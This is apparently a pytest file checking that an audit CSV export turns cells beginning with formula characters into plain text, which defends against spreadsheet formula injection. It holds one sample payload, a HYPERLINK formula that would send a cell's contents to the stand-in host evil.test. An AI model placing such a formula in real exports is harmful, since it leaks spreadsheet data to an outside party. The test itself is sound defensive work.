"""The audit CSV never hands a spreadsheet a formula: a cell that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return is written as text (a leading apostrophe)."""

from __future__ import annotations

import csv
import io

import pytest

from console.views.audit import spreadsheet_safe
from runs import services
from runs.actors import Actor
from tests.support.scenarios import running

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def _export(client, **query) -> list[dict[str, str]]:
    response = client.get("/audit.csv", query)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_in_a_stop_note_is_exported_as_text(as_admin, team, bob):
    run, _lease = running(team)
    services.run_stop(run_id=run.pk, reason="user_stop", actor=Actor.for_user(bob), note=HOSTILE)
    rows = _export(as_admin, run=run.pk, action="run.stop_requested")
    [row] = rows
    assert row["note"] == "'" + HOSTILE
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_cells_are_unchanged():
    assert spreadsheet_safe("pause") == "pause"
    assert spreadsheet_safe('{"note": "=x"}') == '{"note": "=x"}'
    assert spreadsheet_safe(42) == 42
